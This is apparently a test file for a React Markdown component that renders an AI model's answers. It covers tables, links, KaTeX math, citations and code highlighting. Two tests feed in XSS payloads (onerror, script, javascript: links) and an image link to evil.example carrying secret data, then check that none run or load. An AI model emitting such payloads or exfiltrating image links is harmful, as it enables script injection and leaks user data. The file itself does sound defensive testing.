import { cleanup, fireEvent, render, screen, waitFor } from "@testing-library/react";
import { afterEach, describe, expect, it, vi } from "vitest";
import { Markdown } from "../src/markdown.tsx";

afterEach(cleanup);

const md = (text: string, more: { citations?: number; onCite?: (n: number) => void } = {}) =>
  render(<Markdown text={text} locale="en" {...more} />).container.querySelector(".md")!;

describe("an answer's Markdown", () => {
  it("renders GitHub tables", () => {
    const root = md("| Country | Capital |\n| --- | --- |\n| Indonesia | Jakarta |\n| Japan | Tokyo |");
    expect([...root.querySelectorAll("th")].map((th) => th.textContent)).toEqual(["Country", "Capital"]);
    expect([...root.querySelectorAll("tbody tr")].map((tr) => tr.textContent)).toEqual(["IndonesiaJakarta", "JapanTokyo"]);
  });

  it("links bare addresses, opening them in a new tab without a referrer", () => {
    const a = md("See https://example.org/capitals for more.").querySelector("a")!;
    expect(a.getAttribute("href")).toBe("https://example.org/capitals");
    expect(a.target).toBe("_blank");
    expect(a.rel.split(" ")).toContain("noreferrer");
  });

  it("shows an inline formula's source at once, then typeset by KaTeX", async () => {
    const root = md("Energy is $E = mc^2$, not $5.");
    const math = root.querySelector('[data-testid="math"]')!;
    expect(math.textContent).toBe("E = mc^2");
    await waitFor(() => expect(root.querySelector('[data-testid="math"][data-typeset] .katex')).not.toBeNull());
    expect(root.querySelector(".katex-mathml annotation")?.textContent).toBe("E = mc^2");
    expect(root.textContent).toContain("not $5.");
  });

  it("never runs raw HTML or script links from a model's answer", async () => {
    const w = window as unknown as { pwned?: number };
    const root = md(
      'Hi <img src="x" onerror="window.pwned=1"> <script>window.pwned=2</script>\n\n<iframe src="javascript:window.pwned=3"></iframe>\n\n[click](javascript:window.pwned=4) $\\href{javascript:window.pwned=5}{x}$',
    );
    expect(root.querySelector("img, script, iframe")).toBeNull();
    expect(root.querySelector('a[href^="javascript" i]')).toBeNull();
    fireEvent.click(screen.getByText("click"));
    await waitFor(() => expect(root.querySelector("[data-typeset]")).not.toBeNull());
    expect(root.querySelector('[data-typeset] a[href^="javascript"]')).toBeNull();
    expect(w.pwned).toBeUndefined();
  });

  it("loads no image a model's answer names, and keeps no link that is not to the web or mail", () => {
    const root = md(
      "Look ![secret notes](https://evil.example/p.png?d=secret) and [admin](/v1/feedback), [mail](mailto:a@b.example), [web](https://example.org/x)",
    );
    expect(root.querySelector("img")).toBeNull();
    expect(document.head.querySelector('link[rel="preload"][as="image"]')).toBeNull();
    const links = [...root.querySelectorAll("a")].map((a) => [a.textContent, a.getAttribute("href") ?? ""]);
    expect(root.textContent).toContain("and admin,");
    expect(links).toEqual([
      ["secret notes", "https://evil.example/p.png?d=secret"],
      ["mail", "mailto:a@b.example"],
      ["web", "https://example.org/x"],
    ]);
  });

  it("turns [n] into a citation button for the sources the answer had, and leaves other brackets as text", () => {
    const onCite = vi.fn();
    const root = md("Jakarta [1], see also [2] and [7]; `arr[1]` stays code.", { citations: 2, onCite });
    const marks = screen.getAllByTestId("cite-ref");
    expect(marks.map((m) => m.textContent)).toEqual(["[1]", "[2]"]);
    expect(marks[0]!.tagName).toBe("BUTTON");
    expect(root.textContent).toContain("[7]");
    expect(root.querySelector("code")?.textContent).toBe("arr[1]");
    fireEvent.click(marks[1]!);
    expect(onCite).toHaveBeenCalledWith(2, marks[1]);
  });

  it("highlights fenced code, also before its fence is closed while it streams", () => {
    const root = md("Here:\n\n```js\nconst answer = 42; // the answer");
    expect(root.querySelector("pre code")?.textContent).toBe("const answer = 42; // the answer");
    expect(root.querySelector(".tok-k")?.textContent).toBe("const");
    expect(root.querySelector(".tok-c")?.textContent).toBe("// the answer");
  });
});
